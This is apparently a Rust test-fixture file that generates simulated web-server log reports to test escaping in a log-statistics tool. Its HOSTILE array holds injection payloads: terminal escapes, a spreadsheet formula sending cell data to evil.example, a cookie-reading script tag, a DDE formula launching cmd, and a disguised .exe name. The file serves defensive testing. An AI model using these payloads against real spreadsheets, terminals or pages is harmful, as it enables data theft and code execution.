//! Sample reports for the tests: simulated requests, counted exactly. Every run gives the same ones.
#![allow(dead_code, reason = "each test binary uses its own part of the samples")]

use std::collections::{BTreeMap, BTreeSet};

use logstat_reports::model::{
    Accounting, By, EventRow, Figures, FileSummary, Group, GroupRow, Heat, HourRow, Place, RejectSummary,
    Report, SourceSummary, Timing, TopList, TopRow,
};

/// 2026-11-19T00:00:00Z, a Thursday.
pub const MIDNIGHT: i64 = 1_795_046_400;

/// Strings that try to get out of a terminal, a page, a spreadsheet or a column.
pub const HOSTILE: [&str; 8] = [
    "\u{1b}[2J\u{1b}]0;owned\u{7}/cleared",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "<script>alert(document.cookie)</script>",
    "/invoice\u{202e}gpj.exe",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "/\u{200b}zero\u{feff}width/\u{85}next-line",
    "/search?q=日本語のとても長い検索語とそのほかの言葉",
    "line\r\none;=1+1\ttab",
];

/// One simulated line, standing for `weight` equal ones.
#[derive(Clone)]
struct Hit {
    at: i64,
    group: Group,
    status: u16,
    latency_us: u64,
    proxy: Option<ProxyTimes>,
    bytes_sent: u64,
    client: u64,
    bot: bool,
    weight: u64,
}

#[derive(Clone)]
struct ProxyTimes {
    queue_us: u64,
    connect_us: u64,
    response_us: u64,
    retries: u64,
    termination: &'static str,
}

/// Knuth's and Vigna's splitmix64: small, good enough, and the same everywhere.
struct Dice(u64);

impl Dice {
    fn roll(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.roll() % n
    }

    /// A long-tailed time: mostly near `base_us`, now and then many times as much.
    fn time_us(&mut self, base_us: u64) -> u64 {
        let doublings = u64::from(self.roll().trailing_zeros()).saturating_sub(1).min(7);
        (base_us << doublings) / 2 + self.below(base_us)
    }
}

/// A working day of a shop: HAProxy in front of three nginx servers, a gap from 03:00 to 06:00 UTC, an incident at
/// 14:00 UTC, hostile strings in every place that a client can write to.
pub fn day() -> Report {
    let hits = shop_hits();
    let edge: Vec<&Hit> = hits.iter().filter(|hit| hit.group.source == "edge").collect();
    let all: Vec<&Hit> = hits.iter().collect();
    let accounting = day_accounting(&hits);
    Report {
        version: "0.1.0".into(),
        since: MIDNIGHT,
        until: MIDNIGHT + 86_400,
        timezone: "Europe/Berlin".into(),
        by: vec![By::Site, By::Server],
        sources: day_sources(&hits, &accounting),
        accounting,
        totals: without_parts(figures(&edge, 86_400)),
        clients_error: 0.016,
        hours: hour_rows(&all, |g| Group {
            source: g.source.clone(),
            site: g.site.clone(),
            server: g.server.clone(),
            ..Group::default()
        }),
        hour_totals: hour_rows(&edge, |_| Group::default()),
        by_source: group_rows(&all, |g| Group { source: g.source.clone(), ..Group::default() }),
        by_site: group_rows(&edge, |g| Group { site: g.site.clone(), ..Group::default() }),
        by_backend: group_rows(&edge, |g| Group { backend: g.backend.clone(), ..Group::default() }),
        by_server: group_rows(&edge, server_only),
        server_hours: hour_rows(&edge, server_only),
        top: day_top(),
        heat: heat(&edge),
        events: day_events(),
        events_left_out: 0,
        notes: vec![
            "web: no upstream times: the format has no $upstream_response_time".into(),
            format!("edge: 4 lines were cut at 1024 bytes by the sender, the first begins {}", HOSTILE[0]),
        ],
    }
}

/// One nginx log in the combined format: no times, one source, nothing to compare.
pub fn combined() -> Report {
    let mut dice = Dice(7);
    let hits: Vec<Hit> = (0..3 * 3600)
        .filter(|_| dice.below(5) == 0)
        .map(|second| Hit {
            latency_us: 0,
            proxy: None,
            ..web_hit(&mut Dice(second), MIDNIGHT + second as i64, 1)
        })
        .collect();
    let all: Vec<&Hit> = hits.iter().collect();
    let timeless = |mut row: HourRow| {
        row.figures.latency = Timing::default();
        row
    };
    let mut totals = without_parts(figures(&all, 3 * 3600));
    totals.latency = Timing::default();
    let records = hits.len() as u64;
    let accounting = Accounting { lines: records, records, ..Accounting::default() };
    Report {
        version: "0.1.0".into(),
        since: MIDNIGHT,
        until: MIDNIGHT + 3 * 3600,
        timezone: "UTC".into(),
        sources: vec![source("access.log", "combined", 1, accounting.clone())],
        accounting,
        totals,
        clients_error: 0.016,
        hours: hour_rows(&all, |_| Group { source: "access.log".into(), ..Group::default() })
            .into_iter()
            .map(timeless)
            .collect(),
        hour_totals: hour_rows(&all, |_| Group::default()).into_iter().map(timeless).collect(),
        notes: vec!["access.log: no latency: the format has no time; see --format".into()],
        ..Report::default()
    }
}

/// The night of 25 October 2026 in Berlin: 02:00 comes twice.
pub fn dst_night() -> Report {
    let since = 1_792_872_000; // 2026-10-24T20:00:00Z
    flat(since, 8, "Europe/Berlin")
}

/// A fortnight without incident, but a day and a half are missing.
pub fn fortnight() -> Report {
    let mut report = flat(MIDNIGHT - 14 * 86_400, 14 * 24, "Europe/Berlin");
    report.hour_totals.retain(|row| !(60..96).contains(&((row.hour - report.since) / 3600)));
    report.hours.retain(|row| !(60..96).contains(&((row.hour - report.since) / 3600)));
    report
}

/// A window in which nothing was logged.
pub fn nothing() -> Report {
    Report {
        version: "0.1.0".into(),
        since: MIDNIGHT,
        until: MIDNIGHT + 3600,
        timezone: "UTC".into(),
        sources: vec![source("access.log", "combined", 1, Accounting::default())],
        notes: vec!["newest line 2026-11-18 09:12: try --until newest".into()],
        ..Report::default()
    }
}

/// [`day`] with every name and value that a client could have written replaced by `hostile`.
pub fn infested(hostile: &str) -> Report {
    let mut report = day();
    infest_report(&mut report, hostile);
    report
}

/// Puts `hostile` into every place of the report that a client could have written to.
pub fn infest_report(report: &mut Report, hostile: &str) {
    let groups = report.hours.iter_mut().chain(&mut report.hour_totals).chain(&mut report.server_hours);
    for row in groups {
        infest(&mut row.group, &mut row.figures, hostile);
    }
    let tables = [&mut report.by_source, &mut report.by_site, &mut report.by_backend, &mut report.by_server];
    for row in tables.into_iter().flatten() {
        infest(&mut row.group, &mut row.figures, hostile);
    }
    for list in &mut report.top {
        list.source = hostile.into();
        list.rows.iter_mut().for_each(|row| row.value = hostile.into());
    }
    for event in &mut report.events {
        event.message = hostile.into();
        event.source = hostile.into();
    }
    for source in &mut report.sources {
        source.name = hostile.into();
        source.format = hostile.into();
        source.files.iter_mut().for_each(|file| file.path = hostile.into());
        infest_rejects(&mut source.accounting, hostile);
    }
    infest_rejects(&mut report.accounting, hostile);
    infest(&mut Group::default(), &mut report.totals, hostile);
    report.notes.iter_mut().for_each(|note| *note = hostile.into());
}

fn infest(group: &mut Group, figures: &mut Figures, hostile: &str) {
    group.source = hostile.into();
    let parts = [
        &mut group.site,
        &mut group.backend,
        &mut group.server,
        &mut group.tier,
        &mut group.node,
        &mut group.method,
    ];
    for part in parts {
        *part = Some(hostile.into());
    }
    figures.terminations.push((hostile.into(), 1));
    figures.cache_states.push((hostile.into(), 1));
}

fn infest_rejects(accounting: &mut Accounting, hostile: &str) {
    for kind in &mut accounting.reject_kinds {
        for place in &mut kind.first {
            place.file = hostile.into();
            place.excerpt = hostile.into();
        }
    }
}

fn server_only(group: &Group) -> Group {
    Group { backend: group.backend.clone(), server: group.server.clone(), ..Group::default() }
}

/// `hours` hours of even traffic.
fn flat(since: i64, hours: i64, timezone: &str) -> Report {
    let mut dice = Dice(11);
    let hits: Vec<Hit> = (0..hours * 60)
        .flat_map(|minute| {
            let busy = if minute / 60 % 24 < 6 { 1 } else { 3 };
            (0..busy).map(|_| web_hit(&mut dice, since + minute * 60, 20)).collect::<Vec<_>>()
        })
        .collect();
    let all: Vec<&Hit> = hits.iter().collect();
    let records = hits.iter().map(|hit| hit.weight).sum();
    let accounting = Accounting { lines: records, records, ..Accounting::default() };
    Report {
        version: "0.1.0".into(),
        since,
        until: since + hours * 3600,
        timezone: timezone.into(),
        sources: vec![source("web", "combined with $request_time", 3, accounting.clone())],
        accounting,
        totals: without_parts(figures(&all, hours.unsigned_abs() * 3600)),
        clients_error: 0.016,
        hours: hour_rows(&all, |_| Group { source: "web".into(), ..Group::default() }),
        hour_totals: hour_rows(&all, |_| Group::default()),
        heat: heat(&all),
        ..Report::default()
    }
}

/// Requests per hour of the day, in hundreds.
const DIURNAL: [u64; 24] =
    [3, 2, 2, 0, 0, 0, 4, 7, 11, 14, 15, 14, 12, 14, 22, 15, 14, 12, 11, 13, 15, 12, 8, 5];

fn shop_hits() -> Vec<Hit> {
    let mut dice = Dice(42);
    let mut hits = Vec::new();
    for (hour, &hundreds) in DIURNAL.iter().enumerate() {
        for _ in 0..hundreds * 60 {
            let at = MIDNIGHT + hour as i64 * 3600 + dice.below(3600) as i64;
            let edge = edge_hit(&mut dice, at, hour == 14);
            if edge.group.server.as_deref() != Some("<NOSRV>") {
                hits.push(Hit { proxy: None, ..web_hit(&mut dice, at, edge.weight) });
            }
            hits.push(edge);
        }
    }
    hits.sort_by_key(|hit| hit.at);
    hits
}

fn edge_hit(dice: &mut Dice, at: i64, incident: bool) -> Hit {
    let failed = dice.below(if incident { 40 } else { 900 }) == 0;
    let site = ["shop.example", "shop.example", "shop.example", "api.example", "xn--bcher-kva.example"];
    let server = if failed {
        "<NOSRV>"
    } else {
        ["nginx1", "nginx1", "nginx2", "nginx2", "nginx3"][dice.below(5) as usize]
    };
    let slow = if incident { 6 } else { 1 };
    let latency_us = dice.time_us(14_000 * slow) / 1000 * 1000;
    Hit {
        at,
        group: Group {
            source: "edge".into(),
            site: Some(if dice.below(400) == 0 { HOSTILE[2] } else { site[dice.below(5) as usize] }.into()),
            backend: Some(if dice.below(4) == 0 { "api" } else { "web" }.into()),
            server: Some(server.into()),
            ..Group::default()
        },
        status: if failed { 503 } else { status(dice) },
        latency_us,
        proxy: Some(ProxyTimes {
            queue_us: if incident { dice.time_us(40_000) } else { dice.below(2) * 1000 },
            connect_us: 1000 + dice.below(3) * 1000,
            response_us: latency_us * 3 / 4,
            retries: if failed { 3 } else { u64::from(dice.below(700) == 0) },
            termination: termination(dice, failed),
        }),
        bytes_sent: 400 + dice.below(40_000),
        client: dice.below(5000),
        bot: dice.below(6) == 0,
        weight: 15,
    }
}

fn web_hit(dice: &mut Dice, at: i64, weight: u64) -> Hit {
    Hit {
        at,
        group: Group { source: "web".into(), ..Group::default() },
        status: status(dice),
        latency_us: dice.time_us(9_000),
        proxy: None,
        bytes_sent: 300 + dice.below(40_000),
        client: dice.below(5000),
        bot: dice.below(6) == 0,
        weight,
    }
}

fn status(dice: &mut Dice) -> u16 {
    match dice.below(1000) {
        0 => 500,
        1 => 0,
        2 => 101,
        3..=9 => 403,
        10..=39 => 404,
        40..=99 => 304,
        100..=139 => 302,
        140..=149 => 206,
        _ => 200,
    }
}

fn termination(dice: &mut Dice, failed: bool) -> &'static str {
    match (failed, dice.below(300)) {
        (true, 0..200) => "SC--",
        (true, _) => "sQ--",
        (false, 0) => "CD--",
        (false, 1) => "cR--",
        (false, 2) => "sH--",
        (false, 3..6) => "--VN",
        (false, _) => "----",
    }
}

fn hour_rows(hits: &[&Hit], key: impl Fn(&Group) -> Group) -> Vec<HourRow> {
    let mut by_hour: BTreeMap<(i64, Group), Vec<&Hit>> = BTreeMap::new();
    for hit in hits {
        by_hour.entry((hit.at.div_euclid(3600) * 3600, key(&hit.group))).or_default().push(hit);
    }
    by_hour
        .into_iter()
        .map(|((hour, group), hits)| HourRow { hour, group, figures: figures(&hits, 3600) })
        .collect()
}

fn group_rows(hits: &[&Hit], key: impl Fn(&Group) -> Group) -> Vec<GroupRow> {
    let mut by_group: BTreeMap<Group, Vec<&Hit>> = BTreeMap::new();
    for hit in hits {
        by_group.entry(key(&hit.group)).or_default().push(hit);
    }
    let mut rows: Vec<GroupRow> = by_group
        .into_iter()
        .map(|(group, hits)| GroupRow { group, figures: without_parts(figures(&hits, 86_400)) })
        .collect();
    rows.sort_by(|a, b| b.figures.requests.cmp(&a.figures.requests).then_with(|| a.group.cmp(&b.group)));
    rows
}

fn without_parts(figures: Figures) -> Figures {
    Figures { seconds: Vec::new(), clients_sketch: Vec::new(), ..figures }
}

fn figures(hits: &[&Hit], covered_s: u64) -> Figures {
    let count =
        |wanted: &dyn Fn(&Hit) -> bool| hits.iter().filter(|h| wanted(h)).map(|h| h.weight).sum::<u64>();
    let class = |class: u16| count(&|hit| hit.status / 100 == class);
    let requests = count(&|_| true);
    let mut seconds: BTreeMap<i64, u64> = BTreeMap::new();
    hits.iter().for_each(|hit| *seconds.entry(hit.at).or_default() += hit.weight);
    let peak = seconds.iter().map(|(&at, &n)| (n, std::cmp::Reverse(at))).max();
    let clients: BTreeSet<u64> = hits.iter().map(|hit| hit.client).collect();
    let proxied = hits.iter().any(|hit| hit.proxy.is_some());
    let proxy = |time: &dyn Fn(&ProxyTimes) -> u64| timing(hits, &|hit| hit.proxy.as_ref().map(time));
    Figures {
        requests,
        covered_s,
        rps_mean: requests as f64 / covered_s as f64,
        rps_peak: peak.map_or(0, |(n, _)| n),
        rps_peak_at: peak.map(|(_, at)| at.0),
        status_1xx: class(1),
        status_2xx: class(2),
        status_3xx: class(3),
        status_4xx: class(4),
        status_5xx: class(5),
        status_other: class(0),
        status_codes: counted(hits, |hit| Some(hit.status).filter(|&s| s > 0)),
        bytes_sent: Some(hits.iter().map(|hit| hit.bytes_sent * hit.weight).sum()),
        latency: timing(hits, &|hit| Some(hit.latency_us)),
        upstream: Timing::default(),
        queue: proxy(&|times| times.queue_us),
        connect: proxy(&|times| times.connect_us),
        response: proxy(&|times| times.response_us),
        retries: proxied
            .then(|| hits.iter().filter_map(|h| Some(h.proxy.as_ref()?.retries * h.weight)).sum()),
        redispatches: proxied.then_some(0),
        cache_hits: (!proxied).then(|| count(&|hit| hit.client % 3 == 0)),
        cache_lookups: (!proxied).then(|| count(&|hit| hit.client % 4 != 0)),
        cache_states: Vec::new(),
        terminations: counted(hits, |hit| Some(hit.proxy.as_ref()?.termination.to_owned())),
        clients: Some(clients.len() as u64),
        bot_requests: Some(count(&|hit| hit.bot)),
        seconds: seconds.iter().map(|(&at, &n)| (at.rem_euclid(3600) as u32, n)).collect(),
        clients_sketch: clients.iter().take(16).map(|&client| client as u8).collect(),
    }
}

fn counted<K: Ord>(hits: &[&Hit], key: impl Fn(&Hit) -> Option<K>) -> Vec<(K, u64)> {
    let mut counts: BTreeMap<K, u64> = BTreeMap::new();
    for hit in hits {
        if let Some(key) = key(hit) {
            *counts.entry(key).or_default() += hit.weight;
        }
    }
    counts.into_iter().collect()
}

fn timing(hits: &[&Hit], time_us: &dyn Fn(&Hit) -> Option<u64>) -> Timing {
    let mut values: Vec<(u64, u64)> =
        hits.iter().filter_map(|hit| Some((time_us(hit)?, hit.weight))).collect();
    values.sort_unstable();
    let n: u64 = values.iter().map(|&(_, weight)| weight).sum();
    if n == 0 {
        return Timing::default();
    }
    let mut buckets: BTreeMap<u32, u64> = BTreeMap::new();
    values.iter().for_each(|&(us, weight)| *buckets.entry(bucket(us)).or_default() += weight);
    let sum_us = values.iter().map(|&(us, weight)| us * weight).sum();
    let percentile = |percent: u64| {
        let rank = (n * percent).div_ceil(100);
        let mut seen = 0;
        let at = values.iter().find(|&&(_, weight)| {
            seen += weight;
            seen >= rank
        });
        at.map(|&(us, _)| us as f64 / 1000.0)
    };
    Timing {
        n,
        mean_ms: Some(sum_us as f64 / n as f64 / 1000.0),
        p50_ms: percentile(50),
        p90_ms: percentile(90),
        p95_ms: percentile(95),
        p99_ms: percentile(99),
        max_ms: values.last().map(|&(us, _)| us as f64 / 1000.0),
        sum_us,
        sub_ms: values.iter().filter(|&&(us, _)| us % 1000 != 0).map(|&(_, weight)| weight).sum(),
        buckets: buckets.into_iter().collect(),
    }
}

/// 256 buckets per power of two.
fn bucket(us: u64) -> u32 {
    let shift = (63 - (us | 255).leading_zeros()).saturating_sub(8) * u32::from(us >= 256);
    shift * 256 + (us >> shift) as u32
}

fn heat(hits: &[&Hit]) -> Heat {
    let bounds_ms: Vec<f64> =
        [1, 2, 5, 10, 20, 50, 100, 200, 500, 1000, 2000, 5000].into_iter().map(f64::from).collect();
    let (Some(first), Some(last)) = (hits.first(), hits.last()) else { return Heat::default() };
    let start = first.at.div_euclid(3600) * 3600;
    let hours: Vec<i64> = (start..=last.at).step_by(3600).collect();
    let mut cells = vec![vec![0; bounds_ms.len() + 1]; hours.len()];
    for hit in hits {
        let ms = hit.latency_us as f64 / 1000.0;
        let band = bounds_ms.partition_point(|&bound| bound < ms);
        cells[((hit.at - start) / 3600) as usize][band] += hit.weight;
    }
    Heat { hours, bounds_ms, cells }
}

fn source(name: &str, format: &str, files: u64, accounting: Accounting) -> SourceSummary {
    let path =
        |n: u64| if n == 0 { format!("/var/log/{name}.log") } else { format!("/var/log/{name}.log.{n}.gz") };
    SourceSummary {
        name: name.into(),
        format: format.into(),
        format_from: "detected".into(),
        tier: None,
        node: None,
        files: (0..files)
            .map(|n| FileSummary {
                path: path(n),
                bytes: accounting.lines * 240 / files,
                lines: accounting.lines / files,
                skipped: (n == 2).then(|| "newest line 2026-11-18 23:59:58 is before the window".into()),
            })
            .collect(),
        accounting,
    }
}

fn day_accounting(hits: &[Hit]) -> Accounting {
    let records = hits.iter().map(|hit| hit.weight).sum::<u64>() + 312;
    let place = |line, byte, excerpt: &str| Place {
        file: "/var/log/edge.log".into(),
        line,
        byte,
        excerpt: excerpt.into(),
    };
    Accounting {
        lines: records + 4 + 57 + 1,
        records,
        outside_window: 310,
        future: 2,
        events: 4,
        rejects: 57,
        blank: 1,
        truncated: 4,
        nul_bytes: 4096,
        reject_kinds: vec![
            RejectSummary {
                kind: "shape".into(),
                explain: "the line does not have the shape of the format".into(),
                count: 45,
                first: vec![
                    place(412, 31, HOSTILE[0]),
                    place(
                        413,
                        1,
                        "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03 and so on for quite a while",
                    ),
                    place(99_120, 7, HOSTILE[3]),
                ],
            },
            RejectSummary {
                kind: "date".into(),
                explain: "the date cannot be read".into(),
                count: 12,
                first: vec![place(
                    1_200_331,
                    18,
                    "10.0.0.9:3321 [32/Nov/2026:14:03:07.123] fe~ web/nginx1 0/0/1/9/10",
                )],
            },
        ],
    }
}

fn day_sources(hits: &[Hit], total: &Accounting) -> Vec<SourceSummary> {
    let web = hits.iter().filter(|hit| hit.group.source == "web").map(|hit| hit.weight).sum::<u64>();
    let edge = Accounting { lines: total.lines - web, records: total.records - web, ..total.clone() };
    let web = Accounting { lines: web, records: web, ..Accounting::default() };
    let format =
        "$remote_addr - $remote_user [$time_local] \"$request\" $status $body_bytes_sent $request_time";
    let tier = |tier: &str, source| SourceSummary { tier: Some(tier.into()), ..source };
    vec![tier("edge", source("edge", "haproxy-http", 3, edge)), tier("web", source("web", format, 2, web))]
}

fn row(value: &str, requests: u64, error: u64, p95_ms: Option<f64>) -> TopRow {
    TopRow {
        value: value.into(),
        requests,
        error,
        bytes_sent: Some(requests * 18_331),
        latency_p95_ms: p95_ms,
    }
}

fn day_top() -> Vec<TopList> {
    let list = |list: &str, rows: Vec<TopRow>| TopList { list: list.into(), source: "edge".into(), rows };
    let long = format!("/search?q={}&utm_source=newsletter", "a-very-long-value-".repeat(40));
    let hostile =
        |from: u64| HOSTILE.iter().zip(0..).map(move |(value, n)| row(value, from - n, n % 3, Some(3.0)));
    let mut paths = vec![
        row("/", 212_004, 0, Some(23.0)),
        row("/basket", 98_120, 0, Some(84.5)),
        row(&long, 20_119, 12, Some(1_312.0)),
        row("/static/js/app.4f2a9c.js", 19_004, 0, Some(1.0)),
    ];
    paths.extend(hostile(900));
    let mut agents = vec![
        row(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
            401_332,
            0,
            None,
        ),
        row("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 51_002, 0, None),
        row("curl/8.5.0", 812, 0, None),
    ];
    agents.extend(hostile(100));
    vec![
        list(
            "clients",
            vec![
                row("203.0.113.9", 41_209, 0, None),
                row("2001:db8:85a3:8d3:1319:8a2e:370:7348", 20_311, 31, None),
                row("198.51.100.77", 12_001, 31, None),
            ],
        ),
        list("paths", paths),
        list(
            "slow_paths",
            vec![row("/report/export", 45, 0, Some(9_800.0)), row("/basket/checkout", 9_001, 0, Some(640.0))],
        ),
        list(
            "referrers",
            vec![
                row("https://www.example.org/a/page?with=query", 8_012, 0, None),
                row(HOSTILE[1], 12, 0, None),
            ],
        ),
        list("user_agents", agents),
        list("error_paths", vec![row("/basket/checkout", 2_112, 0, Some(12.0))]),
        list("not_found", vec![row("/wp-login.php", 9_122, 4, None), row("/.env", 3_003, 4, None)]),
    ]
}

fn day_events() -> Vec<EventRow> {
    let event = |at, kind: &str, message: &str| EventRow {
        at: Some(MIDNIGHT + at),
        source: "edge".into(),
        kind: kind.into(),
        message: message.into(),
    };
    vec![
        event(
            50_412,
            "server_down",
            "Server web/nginx3 is DOWN, reason: Layer4 connection problem, info: \"Connection refused\", check duration: 0ms. 2 active and 0 backup servers left. 12 sessions active, 0 requeued, 0 remaining in queue.",
        ),
        event(
            50_930,
            "health_check",
            "Health check for server web/nginx3 succeeded, reason: Layer4 check passed, check duration: 0ms, status: 1/2 DOWN.",
        ),
        event(
            50_932,
            "server_up",
            "Server web/nginx3 is UP, reason: Layer4 check passed, check duration: 0ms. 3 active and 0 backup servers online. 0 sessions requeued, 0 total in queue.",
        ),
        event(51_000, "proxy", &format!("Proxy stats {} stopped (FE: 1 conns, BE: 0 conns).", HOSTILE[0])),
    ]
}
